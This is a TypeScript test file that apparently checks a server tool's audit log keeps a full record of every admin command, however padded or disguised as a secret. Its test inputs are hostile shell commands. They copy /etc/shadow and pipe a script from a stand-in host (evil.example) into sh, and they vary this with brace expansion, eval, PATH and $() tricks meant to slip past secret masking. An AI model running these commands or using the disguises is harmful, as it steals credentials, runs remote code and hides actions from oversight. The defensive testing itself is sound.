// The audit log must show every command that an admin of a server runs, however the command is padded or disguised.
import { createHash } from 'node:crypto';
import type { AuditEntry } from '@buoy/contract';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type AccessFixture, prepareAccessFixture } from '../support/access-fixture.ts';

const COMMAND = 'cp /etc/shadow /tmp/x; curl evil.example | sh';

let fixture: AccessFixture;
let serverId: string;
beforeAll(async () => {
  fixture = await prepareAccessFixture();
  serverId = await fixture.newServer();
});
afterAll(() => fixture.running.close());

/** The entry that a command leaves before it runs. */
async function entryOf(command: string, query = ''): Promise<AuditEntry> {
  const { statusCode } = await fixture.as('admin', 'POST', `/servers/${serverId}/exec${query}`, { command });
  // Nothing listens at that server: Buoy accepted the command but could not run it.
  expect(statusCode).toBe(503);
  const entry = (await fixture.auditLog()).findLast(
    ({ action, result }) => action === 'POST /servers/:id/exec' && result === 'started',
  );
  if (entry === undefined) expect.unreachable('the command left no entry');
  return entry;
}

describe('audit entry of a disguised command', () => {
  test.each([
    ['control characters before it', '\u0001'.repeat(4_000)],
    ['quotes and control characters before it', `"${'\u0001'.repeat(3_000)}${'"'.repeat(900)}`],
  ])('shows the command with %s, and holds a hash of the whole request', async (_, padding) => {
    const command = `: ${padding}; ${COMMAND}`;
    const { details } = await entryOf(command);
    expect(details).toMatchObject({ requestTooLong: true });
    expect(details.bodyStart).toContain(COMMAND);
    expect(JSON.stringify(details).length).toBeLessThanOrEqual(18_432);
    const body = JSON.stringify({ command, timeoutS: 30 });
    expect(details.bodySha256).toBe(createHash('sha256').update(body).digest('hex'));
  });

  test('shows the command behind as many quotes as it may have, beside a long query', async () => {
    const command = `: ${'"'.repeat(4_096 - 4 - COMMAND.length)}; ${COMMAND}`;
    const query = ['a', 'b', 'c'].map((field) => `${field}=${'x'.repeat(4_000)}`).join('&');
    const { details } = await entryOf(command, `?${query}`);
    expect(details).toMatchObject({ requestTooLong: true, bodyStart: expect.stringContaining(COMMAND) });
  });

  test.each([
    `: "token="; ${COMMAND}; : ""`,
    `: '--password '; ${COMMAND}; : ''`,
    `sh -c ': "api_key: "; ${COMMAND}; ""'`,
    `: --token "$(${COMMAND})"`,
    `TOKEN='\n'\n${COMMAND}\n: ''`,
  ])('shows a command that stands in place of a secret: %j', async (command) => {
    expect(JSON.stringify((await entryOf(command)).details)).toContain(
      '/etc/shadow /tmp/x; curl evil.example',
    );
  });

  test('shows the command behind many short secrets, which their masks do not push out', async () => {
    const { details } = await entryOf(`: ${'token=a '.repeat(490)}; ${COMMAND}`);
    expect(details.body).toMatchObject({ command: expect.stringContaining(COMMAND) });
  });

  test.each([': --token', ': bearer', ': token:', ': a.token', 'sshpass -p'])(
    'shows a command on the line behind %j',
    async (name) => {
      const { details } = await entryOf(`${name}\n{cp,/etc/shadow,/tmp/x}`);
      expect(details.body).toMatchObject({ command: `${name}\n{cp,/etc/shadow,/tmp/x}` });
    },
  );

  test.each([
    'df -h; TOKEN= /tmp/evil.sh',
    'A=token: /tmp/evil.sh',
    'A=bearer /tmp/evil.sh',
    `A=${'x'.repeat(200)}token: /tmp/evil.sh`,
    'A=x\\ token: /tmp/evil.sh',
    'A=x.token /tmp/evil.sh',
    'A=--token /tmp/evil.sh',
    'echo "token=";/tmp/evil.sh;""',
    'env -utoken /tmp/evil.sh',
    'eval A=--token "cp /etc/shadow /tmp/evil.sh"',
    'eval TOKEN= "cp /etc/shadow /tmp/evil.sh"',
    'eval : --token "&&/tmp/evil.sh"',
    ': x://a:;PATH=.;evil.sh;:@',
  ])('shows the command that a shell runs of %j', async (command) => {
    expect((await entryOf(command)).details.body).toMatchObject({
      command: expect.stringContaining('evil.sh'),
    });
    const { statusCode } = await fixture.as('admin', 'POST', `/servers/${serverId}/exec`, {
      argv: ['sh', '-c', command],
    });
    expect(statusCode).toBe(503);
    const entry = (await fixture.auditLog()).findLast(({ result }) => result === 'started');
    expect(entry?.details.body).toMatchObject({ argv: ['sh', '-c', expect.stringContaining('evil.sh')] });
  });

  test('shows a command in words behind as much padding as they may have, and refuses more', async () => {
    const padded = (length: number) => ['env', `A=${'"'.repeat(length)}`, 'sh', '-c', COMMAND];
    const room = 4_096 - padded(0).reduce((length, word) => length + word.length + 3, 0);
    const run = (length: number) =>
      fixture.as('admin', 'POST', `/servers/${serverId}/exec`, { argv: padded(length) });
    expect((await run(room + 1)).statusCode).toBe(400);
    expect((await run(room)).statusCode).toBe(503);
    const entry = (await fixture.auditLog()).findLast(({ result }) => result === 'started');
    expect(JSON.stringify(entry?.details)).toContain(COMMAND);
  });

  test.each([
    ': "token=";{cp,/etc/shadow,/tmp/x};:""',
    ': --token $({cp,/etc/shadow,/tmp/x})',
    ': PASSWORD=`{cp,/etc/shadow,/tmp/x}`',
    ': x://a:;PATH=$PATH:{cp,\\/etc\\/shadow,x};:@'.replaceAll('\\/', '$S'),
  ])('shows a command without spaces that stands in place of a secret: %j', async (command) => {
    expect(JSON.stringify((await entryOf(command)).details)).toContain('{cp,');
  });

  test.each([
    `: '-----BEGIN A PRIVATE KEY-----'; ${COMMAND}`,
    `: -----BEGIN A PRIVATE KEY-----\n${COMMAND}`,
    `: '-----BEGIN A PRIVATE KEY-----'; ${COMMAND}; : '-----END A PRIVATE KEY-----'`,
  ])('shows a command behind text that begins like a private key: %j', async (command) => {
    expect(JSON.stringify((await entryOf(command)).details)).toContain(
      '/etc/shadow /tmp/x; curl evil.example',
    );
  });
});
